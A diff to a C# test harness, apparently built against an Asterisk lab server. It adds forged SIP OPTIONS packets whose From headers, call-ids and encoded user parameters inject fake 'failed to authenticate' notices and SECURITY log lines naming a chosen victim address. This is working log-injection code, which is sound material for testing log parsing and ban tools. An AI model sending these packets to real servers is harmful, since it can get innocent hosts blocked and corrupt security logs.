@@ -25,6 +25,17 @@ internal sealed record Forgery(string Name, Func<string, string, byte[]> Packet)
         new("parenthesis-in-call-id", (victim, sender) => Request(sender, "nobody", $"z) x' failed for '{victim}:5060' (callid: 1")),
         new("display-name", (victim, sender) => Request(
             sender, "nobody", "1", $"\"x' failed for '{victim}:5060' (callid: 1) - No matching endpoint found\" <sip:nobody@{AsteriskLab.World}>;tag=1")),
+        new("user-parameter-and-notice", (victim, sender) => Request(sender, "nobody", "1", UserParameter($"phone>' failed for '{victim}:5060' (callid: 1) - Failed to authenticate\n"))),
+        new("user-parameter-and-security", (victim, sender) => Request(
+            sender, "nobody", "1", UserParameter($"phone>' failed for '{sender}' (callid: 1) - Failed to authenticate\n[{Now}] SECURITY[1] res_security_log.c: {SecurityEvent(victim)}\n"))),
+        new("quoted-parameter", (victim, sender) => Request(
+            sender, "nobody", "1", $"<sip:nobody@{AsteriskLab.World};x=\"a>' failed for '{victim}:5060' (callid: 1) - Failed to authenticate\">;tag=1")),
+        new("host-in-brackets", (victim, sender) => Request(
+            sender, "nobody", "1", $"<sip:nobody@[x>' failed for '{victim}:5060' (callid: 1) - Failed to authenticate]>;tag=1")),
+        new("words-behind-a-long-from", (victim, sender) => Request(
+            sender, "nobody", $"x' failed for '{victim}:5060' (callid: 1", $"<sip:nobody@{AsteriskLab.World};x={new string('A', 600)}>;tag=1")),
+        new("quote-behind-a-long-name", (victim, sender) => Request(
+            sender, "nobody", $"x\" <sip:1@a>' failed for '{victim}:5060' (callid: 1", $"\"{new string('A', 600)}\" <sip:nobody@{AsteriskLab.World}>;tag=1")),
         new("dump-of-a-malformed-packet", (victim, sender) => Malformed(sender, victim, "")),
         new("dump-that-says-that-it-ends", (victim, sender) => Malformed(sender, victim, "\n-- end of packet.\n")),
     ];
@@ -57,6 +68,9 @@ internal sealed record Forgery(string Name, Func<string, string, byte[]> Packet)
     private static string SecurityEvent(string address) =>
         $"SecurityEvent=\"InvalidAccountID\",EventTV=\"{Now.Replace(' ', 'T')}.123+0000\",Severity=\"Error\",Service=\"PJSIP\",EventVersion=\"1\","
         + $"AccountID=\"admin\",SessionID=\"1\",LocalAddress=\"IPV4/UDP/{AsteriskLab.World}/5060\",RemoteAddress=\"IPV4/UDP/{address}/5060\"";
+
+    // PJSIP decodes this parameter and prints it as it is into the notice, line ends too.
+    private static string UserParameter(string text) => $"<sip:nobody@{AsteriskLab.World};user={Uri.EscapeDataString(text)}>;tag=1";
 
     private static byte[] Request(string sender, string user, string callId, string? from = null)
         => new SipRequest("OPTIONS", user) { CallId = callId, From = from }.ToBytes(AsteriskLab.World, sender, SipTransport.Udp);
